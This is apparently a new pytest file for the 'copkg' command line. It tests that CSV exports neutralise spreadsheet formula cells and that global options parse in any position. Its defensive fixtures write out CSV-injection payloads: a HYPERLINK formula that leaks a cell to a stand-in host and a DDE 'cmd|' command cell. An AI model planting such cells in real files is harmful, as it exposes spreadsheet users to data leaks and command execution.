@@ -1,0 +1,157 @@
+"""Hostile and careless input at the ``copkg`` command line: formula cells in every CSV copkg
+writes, OS and input errors as one-line messages (exit 1), story limits, global options in
+either position. Each case asserts the exit code, the message and that nothing was damaged."""
+
+from __future__ import annotations
+
+import contextlib
+import csv
+import io
+import shutil
+import zipfile
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from graph import KnowledgeGraph
+from graph.cli import main
+from graph.ingest import import_paths
+
+TINY = Path(__file__).parent / "data" / "network" / "tiny"
+
+HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/leak?x="&A1,"click")'
+CMD = "-2+3+cmd|' /C calc'!A0"
+SUM = "@SUM(1+1)"
+PLUS = "+1+1"
+HOSTILE = {"p1": HYPERLINK, "p2": PLUS, "p3": CMD, "p4": SUM}
+
+
+@pytest.fixture(scope="module")
+def hostile_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The tiny network with formula-like names for its four people and an organisation."""
+    folder = tmp_path_factory.mktemp("hostile") / "sheets"
+    shutil.copytree(TINY, folder)
+    people = pd.read_csv(folder / "people.csv", dtype=str, keep_default_na=False)
+    people["name"] = people["id"].map(HOSTILE)
+    people.to_csv(folder / "people.csv", index=False)
+    orgs = pd.read_csv(folder / "organizations.csv", dtype=str, keep_default_na=False)
+    orgs.loc[orgs["id"] == "o2", "name"] = "=1+1"
+    orgs.to_csv(folder / "organizations.csv", index=False)
+    return folder
+
+
+@pytest.fixture(scope="module")
+def hostile_store(hostile_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    path = tmp_path_factory.mktemp("hostile-store") / "store"
+    kg = KnowledgeGraph.open(path)
+    import_paths(kg, [hostile_dir])
+    kg.close()
+    return path
+
+
+def _stored_names(store: Path) -> set[str]:
+    with KnowledgeGraph.open(store, read_only=True) as kg:
+        return set(kg.query("SELECT ?n WHERE { ?p a foaf:Person ; foaf:name ?n }")["n"])
+
+
+# --------------------------------------------------------------------------- CSV formulas
+def _assert_no_formula(cells: list[str]) -> None:
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "@")), cell
+        assert not (cell.startswith("-") and not _is_number(cell)), cell
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_export_csv_neutralises_formulas_and_reimports_unchanged(
+    hostile_store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    out = tmp_path / "sheets.zip"
+    assert main(["export", "--store", str(hostile_store), "--format", "csv",
+                 "--out", str(out)]) == 0
+    with zipfile.ZipFile(out) as archive:
+        people = archive.read("people.csv").decode("utf-8")
+        orgs = archive.read("organizations.csv").decode("utf-8")
+    _assert_no_formula(_cells(people) + _cells(orgs))
+    assert "'" + HYPERLINK.replace('"', '""') in people and "'" + CMD in people
+    assert "'=1+1" in orgs
+    # the store keeps the real values, and the export re-imports to the same names
+    assert _stored_names(hostile_store) == set(HOSTILE.values())
+    folder = tmp_path / "again"
+    with zipfile.ZipFile(out) as archive:
+        archive.extractall(folder)
+    again = tmp_path / "store2"
+    kg = KnowledgeGraph.open(again)
+    import_paths(kg, [folder])
+    kg.close()
+    assert _stored_names(again) == set(HOSTILE.values())
+
+
+def test_query_and_metrics_csv_neutralise_text_keep_numbers(
+    hostile_store: Path, tmp_path: Path
+) -> None:
+    out = tmp_path / "q.csv"
+    rq = tmp_path / "names.rq"
+    rq.write_text("SELECT ?name (-0.5 AS ?neg) (1 AS ?one) WHERE { ?p a foaf:Person ; "
+                  "foaf:name ?name } ORDER BY ?name", encoding="utf-8")
+    assert main(["query", "--store", str(hostile_store), str(rq), "--format", "csv",
+                 "-o", str(out)]) == 0
+    text = out.read_text(encoding="utf-8")
+    _assert_no_formula(_cells(text))
+    df = pd.read_csv(out)
+    assert df["neg"].dtype.kind == "f" and (df["neg"] == -0.5).all()
+    assert df["one"].dtype.kind == "i"
+    assert sorted(df["name"]) == sorted("'" + n for n in HOSTILE.values())
+
+    metrics = tmp_path / "m.csv"
+    buffer = io.StringIO()
+    with contextlib.redirect_stdout(buffer):
+        assert main(["metrics", "--store", str(hostile_store), "--format", "csv"]) == 0
+    metrics.write_text(buffer.getvalue(), encoding="utf-8")
+    _assert_no_formula(_cells(buffer.getvalue()))
+    table = pd.read_csv(metrics)
+    numeric = [c for c in table.columns if c in ("degree", "betweenness", "pagerank")]
+    assert numeric and all(table[c].dtype.kind in "fi" for c in numeric)
+
+
+def test_map_csv_neutralises_formulas(hostile_store: Path, tmp_path: Path) -> None:
+    out = tmp_path / "edges.csv"
+    assert main(["map", "--store", str(hostile_store), "--projection", "people",
+                 "--out", str(out)]) == 0
+    raw = out.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # BOM for spreadsheet programs
+    text = raw.decode("utf-8-sig")
+    _assert_no_formula(_cells(text))
+    df = pd.read_csv(out, encoding="utf-8-sig")
+    assert df["weight"].dtype.kind == "f"
+    assert "'" + HYPERLINK in set(df["source_label"]) | set(df["target_label"])
+
+
+# --------------------------------------------------------------------------- global options
+@pytest.mark.parametrize("command", [
+    ["stats"], ["query", "x.rq"], ["queries"], ["metrics"], ["serve"],
+    ["map", "--projection", "people", "--out", "m.html"], ["story", "s.json", "--out", "s.html"],
+    ["export", "--format", "ttl", "--out", "x.ttl"], ["import", "a.csv"], ["path", "a", "b"],
+])
+def test_global_options_before_or_after_the_command(command: list[str]) -> None:
+    from graph.cli import build_parser
+
+    parser = build_parser()
+    for argv in (["--store", "/s", "--endpoint", "http://e/q", *command],
+                 [*command, "--store", "/s", "--endpoint", "http://e/q"],
+                 ["--store", "/s", *command, "--endpoint", "http://e/q"]):
+        args = parser.parse_args(argv)
+        assert str(args.store) == "/s" and args.endpoint == "http://e/q", argv
+    args = parser.parse_args(command)
+    assert not hasattr(args, "store") and not hasattr(args, "endpoint")
